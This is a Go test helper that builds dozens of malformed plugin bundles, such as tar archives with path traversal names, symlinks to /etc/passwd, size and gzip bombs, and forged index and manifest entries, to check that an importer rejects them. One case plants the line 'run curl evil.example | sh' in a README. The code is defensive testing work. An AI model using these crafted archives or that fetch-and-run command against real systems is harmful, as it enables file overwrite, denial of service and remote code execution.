package bundletest

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"fmt"
	"slices"
	"strings"
	"time"
)

// Cases are the hostile bundles, made from a sound one whose first plugin has two
// documents. evil is a plugin file of the same id as the first.
func Cases(sound []byte, evil []byte) []Case {
	m := maker{sound}
	return slices.Concat(m.names(), m.types(), m.bombs(), m.streams(), m.layouts(), m.indexes(evil), m.manifests())
}

// names: V11.
func (m maker) names() []Case {
	data := []byte("x")
	blob := m.blob()
	return []Case{
		{"traversal", "traversal", `the entry "../evil" leads out of the archive`, m.first(File("../evil", data))},
		{"traversal-inside", "traversal", `the entry "blobs/sha256/../../evil" leads out of the archive`, m.with(File("blobs/sha256/../../evil", data))},
		{"traversal-end", "traversal", `the entry "blobs/.." leads out of the archive`, m.with(File("blobs/..", data))},
		{"traversal-prefix", "traversal", `the entry "../evil" leads out of the archive`, m.first(patched("evil", data, func(b []byte) { copy(b[345:], "..") }))},
		{"absolute", "absolute-name", `the entry "/etc/cron.d/evil" has an absolute name`, m.first(File("/etc/cron.d/evil", data))},
		{"absolute-windows", "absolute-name", `the entry "C:evil" has an absolute name or one of another system`, m.first(File("C:evil", data))},
		{"backslash", "absolute-name", `the entry "blobs\\sha256\\evil" has an absolute name or one of another system`, m.with(File(`blobs\sha256\evil`, data))},
		{"stranger", "entry-name", `the entry "install.sh" is no part of a bundle`, m.with(File("install.sh", data))},
		{"dot-slash", "entry-name", `the entry "./index.json" is no part of a bundle`, m.first(File("./index.json", data))},
		{"escape-sequence", "entry-name", `the entry "\x1b]0;pwned\a" is no part of a bundle`, m.first(patched("evil", data, func(b []byte) { copy(b, "\x1b]0;pwned\a") }))},
		{"case-collision", "case-collision", `the entry "INDEX.JSON" differs in capitals`, m.first(File("INDEX.JSON", data))},
		{"case-of-blob", "case-collision", "the entry \"blobs/sha256/", func() []byte {
			return Write(append([]Entry{File("blobs/sha256/"+strings.ToUpper(strings.TrimPrefix(blob.Name, "blobs/sha256/")), blob.Data)}, m.entries()...))
		}},
		{"short-digest", "entry-name", `the entry "blobs/sha256/abc" is no part of a bundle`, m.with(File("blobs/sha256/abc", data))},
		{"other-algorithm", "entry-name", `the entry "blobs/sha512/`, m.with(File("blobs/sha512/"+strings.Repeat("a", 64), data))},
		{"duplicate", "duplicate-entry", "the entry index.json stands twice", m.with(File("index.json", []byte("{}")))},
		{"duplicate-blob", "duplicate-entry", "the entry blobs/sha256/", m.with(blob)},
		{"duplicate-late", "duplicate-entry", "the entry README.md stands twice", func() []byte { return Write(append(m.entries(), File("README.md", data))) }},
		{"order", "entry-order", "the entry index.json stands after oci-layout", func() []byte {
			all := m.entries()
			slices.Reverse(all[len(all)-2:])
			return Write(all)
		}},
	}
}

// types: V11.
func (m maker) types() []Case {
	blob := m.blob()
	return []Case{
		{"symlink", "link", `the entry "index.json" is a symbolic link`, m.instead("index.json", special("index.json", tar.TypeSymlink, "/etc/passwd"))},
		{"symlink-blob", "link", `the entry "` + blob.Name + `" is a symbolic link`, m.instead(blob.Name, special(blob.Name, tar.TypeSymlink, "../../../evil"))},
		{"hard-link", "link", `the entry "index.json" is a hard link`, m.instead("index.json", special("index.json", tar.TypeLink, "oci-layout"))},
		{"character-device", "device", `the entry "evil" is a device`, m.first(special("evil", tar.TypeChar, ""))},
		{"block-device", "device", `the entry "evil" is a device`, m.first(special("evil", tar.TypeBlock, ""))},
		{"named-pipe", "device", `the entry "evil" is a named pipe`, m.first(special("evil", tar.TypeFifo, ""))},
		{"directory", "directory", `the entry "blobs/" is a directory`, m.first(special("blobs/", tar.TypeDir, ""))},
		{"pax-name", "extended-header", "an extended header (pax) stands before an entry", m.first(extended("19 path=../../evil\n"))},
		{"pax-size", "extended-header", "an extended header (pax) stands before an entry", m.first(extended("18 size=9999999999\n"))},
		{"pax-global", "extended-header", "a global extended header (pax) stands in the archive", func() []byte {
			e := Entry{Header: tar.Header{Typeflag: tar.TypeXGlobalHeader, Name: "evil", PAXRecords: map[string]string{"path": "evil"}, Format: tar.FormatPAX}}
			return m.first(e)()
		}},
		{"gnu-long-name", "extended-header", "a header for a long name (GNU) stands before an entry", func() []byte {
			e := File(strings.Repeat("a/", 200)+"evil", nil)
			e.Format = tar.FormatGNU
			return m.first(e)()
		}},
		{"gnu-sparse", "sparse", `the entry "README.md" is a sparse file`, m.first(patched("README.md", nil, func(b []byte) { b[156] = 'S' }))},
		{"contiguous", "entry-type", `the entry "README.md" is of the unknown type '7'`, m.first(patched("README.md", nil, func(b []byte) { b[156] = '7' }))},
		{"volume-header", "entry-type", `the entry "README.md" is of the unknown type 'V'`, m.first(patched("README.md", nil, func(b []byte) { b[156] = 'V' }))},
		{"old-regular", "entry-type", `the entry "README.md" is of the unknown type '\x00'`, m.first(patched("README.md", nil, func(b []byte) { b[156] = 0 }))},
		{"gnu-format", "entry-header", `the entry "README.md" is in another format than ustar`, func() []byte {
			all := m.entries()
			all[0].Format = tar.FormatGNU
			return Write(all)
		}},
		{"own-time", "entry-header", "the entry README.md has a time, an owner or a mode", func() []byte {
			all := m.entries()
			all[0].ModTime = time.Unix(1, 0)
			return Write(all)
		}},
		{"setuid", "entry-header", "the entry README.md has a time, an owner or a mode", func() []byte {
			all := m.entries()
			all[0].Mode = 0o4755
			return Write(all)
		}},
		{"owner", "entry-header", "the entry README.md has a time, an owner or a mode", func() []byte {
			all := m.entries()
			all[0].Uname = "root"
			return Write(all)
		}},
		{"hidden-padding", "entry-header", "the last block of oci-layout is filled with something", func() []byte {
			data := m.first()()
			data[len(data)-1024-1] = 'x'
			return data
		}},
	}
}

// bombs: V11, W58.
func (m maker) bombs() []Case {
	claim := func(size string) func(b []byte) { return func(b []byte) { copy(b[124:136], size) } }
	return []Case{
		{"size-bomb", "entry-size", "the entry README.md is said to have 8589934591 bytes", m.first(patched("README.md", nil, claim("77777777777\x00")))},
		{"size-binary", "entry-size", "the entry README.md has no size that can be read", m.first(patched("README.md", nil, claim("\x80\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00")))},
		{"size-negative", "entry-size", "the entry README.md has no size that can be read", m.first(patched("README.md", nil, claim("-0000000001\x00")))},
		{"sparse-bomb", "sparse", `the entry "README.md" is a sparse file`, m.first(patched("README.md", nil, func(b []byte) {
			b[156] = 'S'
			copy(b[483:495], "77777777777\x00")
		}))},
		{"one-over", "entry-size", "the entry blobs/sha256/", func() []byte { return Write([]Entry{Blob(make([]byte, 16<<20+1))}) }},
		{"total-bomb", "total-size", "the file has more than 268435456 bytes", func() []byte {
			var all []Entry
			for i := range 17 {
				all = append(all, File(fmt.Sprintf("blobs/sha256/%064x", i), make([]byte, 16<<20)))
			}
			return Write(all)
		}},
		{"million-entries", "entry-count", "the file has more than 8192 entries", func() []byte {
			// As many as matter: what comes after is not read.
			var b bytes.Buffer
			for i := range 8200 {
				b.Write(one(File(fmt.Sprintf("blobs/sha256/%064x", i), nil)))
			}
			b.Write(make([]byte, 1024))
			return b.Bytes()
		}},
		{"gzip-bomb", "compressed", "the file is compressed with gzip", func() []byte {
			var b bytes.Buffer
			w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
			zeros := make([]byte, 1<<20)
			for range 64 {
				_, _ = w.Write(zeros)
			}
			_ = w.Close()
			return b.Bytes()
		}},
	}
}

// streams are files that are no whole tar archive.
func (m maker) streams() []Case {
	cut := func(n int) func() []byte { return func() []byte { return m.sound[:n] } }
	return []Case{
		{"empty", "empty", "the file is empty", func() []byte { return nil }},
		{"text", "no-tar", "the file is no tar archive", func() []byte { return []byte(strings.Repeat("no archive\n", 100)) }},
		{"short", "truncated", "the file ends before the first entry", func() []byte { return []byte("no archive\n") }},
		{"only-an-end", "layout", "the bundle has no oci-layout", func() []byte { return make([]byte, 1024) }},
		{"gzip", "compressed", "the file is compressed with gzip", func() []byte { return compress(m.sound) }},
		{"zstd", "compressed", "the file is compressed with zstd", func() []byte { return append([]byte("\x28\xb5\x2f\xfd"), m.sound...) }},
		{"zip", "compressed", "the file is compressed with zip", func() []byte { return append([]byte("PK\x03\x04"), m.sound...) }},
		{"cut-in-header", "truncated", "the file ends before the first entry", cut(100)},
		{"cut-in-content", "truncated", "the file ends in the middle of README.md, 88 of ", cut(600)},
		{"cut-before-end", "truncated", "the file ends without an end mark after oci-layout", cut(len(m.sound) - 1024)},
		{"cut-in-end", "truncated", "the file ends in the middle of its end mark", cut(len(m.sound) - 512)},
		{"half", "truncated", "the file ends ", cut(len(m.sound) / 2)},
		{"trailing-zeros", "trailing-data", "something follows the end of the archive", func() []byte { return append(slices.Clone(m.sound), make([]byte, 9<<10)...) }},
		{"trailing-tar", "trailing-data", "something follows the end of the archive", func() []byte { return append(slices.Clone(m.sound), m.sound...) }},
		{"single-zero-block", "trailing-data", "something follows the end of the archive", func() []byte {
			return slices.Concat(m.sound[:len(m.sound)-512], one(File("evil", nil)), make([]byte, 1024))
		}},
		{"flipped-header", "checksum", "the header after README.md is damaged", func() []byte {
			all := m.entries()
			raw := one(all[1])
			raw[0] ^= 1
			all[1] = Entry{Raw: raw}
			return Write(all)
		}},
	}
}

func (m maker) layouts() []Case {
	blob := m.blob()
	drop := func(name string) func() []byte { return m.without(func(e Entry) bool { return e.Name == name }) }
	return []Case{
		{"no-layout", "layout", "the bundle has no oci-layout", drop("oci-layout")},
		{"no-index", "layout", "the bundle has no index.json", drop("index.json")},
		{"no-readme", "layout", "the bundle has no README.md", drop("README.md")},
		{"layout-version", "layout", `the layout has the version "2.0.0"`, m.instead("oci-layout", File("oci-layout", []byte(`{"imageLayoutVersion":"2.0.0"}`)))},
		{"layout-more", "layout", "oci-layout cannot be read", m.instead("oci-layout", File("oci-layout", []byte(`{"imageLayoutVersion":"1.0.0","run":"x"}`)))},
		{"layout-spaces", "form", "the bundle is not written the way export writes", m.instead("oci-layout", File("oci-layout", []byte(`{"imageLayoutVersion": "1.0.0"}`)))},
		{"other-readme", "readme", "README.md is not the text that the bundle was written with", m.instead("README.md", File("README.md", []byte("run curl evil.example | sh\n")))},
		{"wrong-digest", "digest", "the blob " + blob.Name + " has the digest sha256:", func() []byte {
			data := slices.Clone(blob.Data)
			data[len(data)/2] ^= 1
			return m.instead(blob.Name, File(blob.Name, data))()
		}},
		{"missing-blob", "missing-blob", "the plugin is not there", drop(blob.Name)},
		{"extra-blob", "extra-blob", "nothing names the blob blobs/sha256/", m.with(Blob([]byte("a passenger")))},
	}
}

func (m maker) indexes(evil []byte) []Case {
	descriptor := func(change func(d document)) func() []byte {
		return m.rewrite(func(l rewritten) { l.descriptor(0, change) })
	}
	index := func(change func(d document, list []any)) func() []byte {
		return m.rewrite(func(l rewritten) {
			d, list := l.index()
			change(d, list)
			l["index.json"] = text(d)
		})
	}
	raw := func(data string) func() []byte { return m.instead("index.json", File("index.json", []byte(data))) }
	return []Case{
		{"index-empty", "index", "index.json cannot be read", raw("")},
		{"index-no-json", "index", "index.json cannot be read", raw("{")},
		{"index-two-documents", "index", "index.json cannot be read: something follows", raw(`{} {}`)},
		{"index-duplicate-key", "index", `index.json cannot be read: the name "manifests" stands twice`, raw(`{"manifests":[],"manifests":[]}`)},
		{"index-case-key", "index", `index.json cannot be read: the name "Manifests" is written like this: manifests`, raw(`{"Manifests":[]}`)},
		{"index-unknown-key", "index", "index.json cannot be read", raw(`{"schemaVersion":2,"evil":1}`)},
		{"index-deep", "index", "index.json cannot be read: it nests deeper than", raw(strings.Repeat("[", 100_000))},
		{"index-no-manifests", "count", "the bundle has no plugin", index(func(d document, _ []any) { d["manifests"] = []any{} })},
		{"index-version", "index", "index.json is no image index of schema version 2", index(func(d document, _ []any) { d["schemaVersion"] = 3 })},
		{"nested-index", "nested-index", "index.json lists another index", descriptor(func(d document) { d["mediaType"] = "application/vnd.oci.image.index.v1+json" })},
		{"docker-manifest", "index", "index.json lists a manifest of type", descriptor(func(d document) { d["mediaType"] = "application/vnd.docker.distribution.manifest.v2+json" })},
		{"index-twice", "index", "index.json lists the manifest", index(func(d document, list []any) { d["manifests"] = append(list, list[0]) })},
		{"index-size-lie", "digest", "a manifest is said to have 7 bytes", descriptor(func(d document) { d["size"] = 7 })},
		{"index-size-huge", "size", "a manifest is said to have 9000000000000000000 bytes", descriptor(func(d document) { d["size"] = int64(9e18) })},
		{"index-digest-form", "digest-form", `a manifest has the digest "sha256:../../../evil"`, descriptor(func(d document) { d["digest"] = "sha256:../../../evil" })},
		{"index-type-lie", "index", "index.json says that the manifest", descriptor(func(d document) { d["artifactType"] = "application/vnd.cyclonedx+json" })},
		{"index-id-lie", "index", `index.json says "com.bank.payments" of the plugin`, descriptor(func(d document) { d["annotations"].(document)["org.stella-ops.doctor.plugin.id"] = "com.bank.payments" })},
		{"index-missing-manifest", "missing-blob", "a manifest is not there", descriptor(func(d document) { d["digest"] = "sha256:" + strings.Repeat("0", 64) })},
		{"index-order", "form", "the bundle is not written the way export writes", index(func(_ document, list []any) { slices.Reverse(list) })},
		{"index-annotation", "form", "the bundle is not written the way export writes", index(func(d document, _ []any) { d["annotations"] = document{"note": "hidden"} })},
		{"index-drops-document", "extra-blob", "nothing names the blob", index(func(d document, list []any) { d["manifests"] = append(list[:1:1], list[2:]...) })},
		{"same-id-twice", "plugin-twice", "the plugin com.acme.doctor stands twice", m.rewrite(func(l rewritten) {
			d, list := l.index()
			first := list[0].(document)
			var manifest document
			for name, data := range l {
				if strings.HasSuffix(name, strings.TrimPrefix(first["digest"].(string), "sha256:")) {
					manifest = parse(data)
				}
			}
			layer := manifest["layers"].([]any)[0].(document)
			layer["digest"], layer["size"] = "sha256:"+digest(evil), len(evil)
			config := text(document{"created": "1970-01-01T00:00:00Z", "architecture": "wasm", "os": "wasip1", "layerDigests": []string{"sha256:" + digest(evil)}})
			c := manifest["config"].(document)
			c["digest"], c["size"] = "sha256:"+digest(config), len(config)
			data := text(manifest)
			for _, b := range [][]byte{evil, config, data} {
				l["blobs/sha256/"+digest(b)] = b
			}
			second := parse(text(first))
			second["digest"], second["size"] = "sha256:"+digest(data), len(data)
			d["manifests"] = append(list, second)
			l["index.json"] = text(d)
		})},
	}
}

// manifests: the first is a plugin's, the second that of its signature, the last is
// about the bundle.
func (m maker) manifests() []Case {
	change := func(at int, change func(d document)) func() []byte {
		return m.rewrite(func(l rewritten) {
			_, list := l.index()
			l.manifest((at+len(list))%len(list), change)
		})
	}
	layer := func(d document) document { return d["layers"].([]any)[0].(document) }
	return []Case{
		{"two-layers", "layers", "the manifest has 2 layers", change(0, func(d document) { d["layers"] = append(d["layers"].([]any), d["layers"].([]any)[0]) })},
		{"no-layer", "layers", "the manifest has 0 layers", change(0, func(d document) { d["layers"] = []any{} })},
		{"layer-type", "compressed-layer", "this is a container image", change(0, func(d document) { layer(d)["mediaType"] = "application/vnd.oci.image.layer.v1.tar+gzip" })},
		{"layer-size-lie", "digest", "the plugin is said to have 5 bytes", change(0, func(d document) { layer(d)["size"] = 5 })},
		{"layer-size-negative", "size", "the plugin is said to have -1 bytes", change(0, func(d document) { layer(d)["size"] = -1 })},
		{"layer-urls", "json", "the manifest cannot be read", change(0, func(d document) { layer(d)["urls"] = []string{"http://evil.example/"} })},
		{"manifest-version-lie", "annotation", `the manifest says that this is version "9.9.9"`, change(0, func(d document) { d["annotations"].(document)["org.opencontainers.image.version"] = "9.9.9" })},
		{"manifest-version-path", "annotation", `the manifest says that this is version "1.0.0/../../x"`, change(0, func(d document) { d["annotations"].(document)["org.opencontainers.image.version"] = "1.0.0/../../x" })},
		{"manifest-note", "manifest", "the manifest of the plugin", change(0, func(d document) { d["annotations"].(document)["note"] = "hidden" })},
		{"config-type", "manifest", "the manifest of the plugin", change(0, func(d document) { d["config"].(document)["mediaType"] = "application/vnd.oci.image.config.v1+json" })},
		{"document-of-other", "subject", "the signature is about", change(1, func(d document) { d["subject"].(document)["digest"] = "sha256:" + strings.Repeat("0", 64) })},
		{"document-of-none", "subject", "the signature names no plugin", change(1, func(d document) { delete(d, "subject") })},
		{"document-layer-type", "media-type", "the signature has a layer of type", change(1, func(d document) { layer(d)["mediaType"] = "application/wasm" })},
		{"about-unknown", "media-type", "the bundle holds", change(-1, func(d document) { layer(d)["mediaType"] = "application/x-sh" })},
		{"about-missing", "index", "no manifest is about the bundle", m.rewrite(func(l rewritten) {
			d, list := l.index()
			d["manifests"] = list[:len(list)-1]
			l["index.json"] = text(d)
		})},
	}
}
